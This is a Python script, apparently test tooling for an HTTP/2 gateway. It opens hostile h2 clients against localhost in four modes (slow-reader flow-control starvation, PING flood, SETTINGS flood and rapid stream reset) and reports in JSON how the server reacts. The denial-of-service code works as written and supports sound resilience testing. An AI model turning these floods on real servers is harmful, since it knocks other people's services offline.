"""Hostile HTTP/2 clients built on the `h2` library (python-hyper), a
stack independent of the gateway's: a slow reader that never opens its
flow-control windows, and SETTINGS / PING floods. Prints one JSON report.

usage: h2_attacks.py MODE --port N [--path P] [--count N] [--timeout S]
  MODE: slow-reader | ping-flood | settings-flood | rapid-reset
"""

import argparse
import json
import socket
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=2)
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def pump(sock, conn, deadline, on_event):
    """Read and hand events to `on_event` until it returns a value, the
    peer closes, or the deadline passes."""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError as e:
            return {"closed": f"error: {e}"}
        if not data:
            return {"closed": "eof"}
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            return {"closed": f"protocol error: {e}"}
        for ev in events:
            got = on_event(ev)
            if got is not None:
                return got
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                pass
    return {"closed": "timeout"}


def slow_reader(args):
    sock, conn = connect(args.port)
    conn.send_headers(
        1,
        [(":method", "GET"), (":scheme", "http"), (":authority", "x"), (":path", args.path)],
        end_stream=True,
    )
    sock.sendall(conn.data_to_send())
    start = time.monotonic()
    got = {"bytes": 0}

    def on_event(ev):
        # Data is never acknowledged: no WINDOW_UPDATE ever goes out.
        if isinstance(ev, h2.events.DataReceived):
            got["bytes"] += len(ev.data)
        elif isinstance(ev, h2.events.StreamReset):
            return {"reset_after": time.monotonic() - start, "error_code": int(ev.error_code)}
        elif isinstance(ev, h2.events.StreamEnded):
            return {"ended_after": time.monotonic() - start}
        return None

    report = pump(sock, conn, start + args.timeout, on_event)
    sock.close()
    report["bytes"] = got["bytes"]
    return report


def flood(args, kind):
    sock, conn = connect(args.port)
    start = time.monotonic()
    acks = {"n": 0}
    sent = 0
    get = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/")]
    for i in range(args.count):
        if kind == "ping":
            conn.ping(i.to_bytes(8, "big"))
        elif kind == "settings":
            conn.update_settings({h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 100 + i % 7})
        else:
            # Rapid reset: open a request stream and cancel it at once.
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, get, end_stream=True)
            conn.reset_stream(sid, error_code=8)
        sent += 1
    try:
        sock.sendall(conn.data_to_send())
    except OSError as e:
        sock.close()
        return {"closed": f"error while flooding: {e}", "sent": sent, "acks": 0}

    def on_event(ev):
        if isinstance(ev, (h2.events.PingAckReceived, h2.events.SettingsAcknowledged)):
            acks["n"] += 1
        elif isinstance(ev, h2.events.ConnectionTerminated):
            return {
                "goaway": int(ev.error_code),
                "after": time.monotonic() - start,
            }
        return None

    report = pump(sock, conn, start + args.timeout, on_event)
    sock.close()
    report["acks"] = acks["n"]
    report["sent"] = sent
    return report


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["slow-reader", "ping-flood", "settings-flood", "rapid-reset"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--path", default="/")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--timeout", type=float, default=8.0)
    args = p.parse_args()
    if args.mode == "slow-reader":
        report = slow_reader(args)
    elif args.mode == "ping-flood":
        report = flood(args, "ping")
    elif args.mode == "settings-flood":
        report = flood(args, "settings")
    else:
        report = flood(args, "reset")
    print(json.dumps(report))


if __name__ == "__main__":
    main()
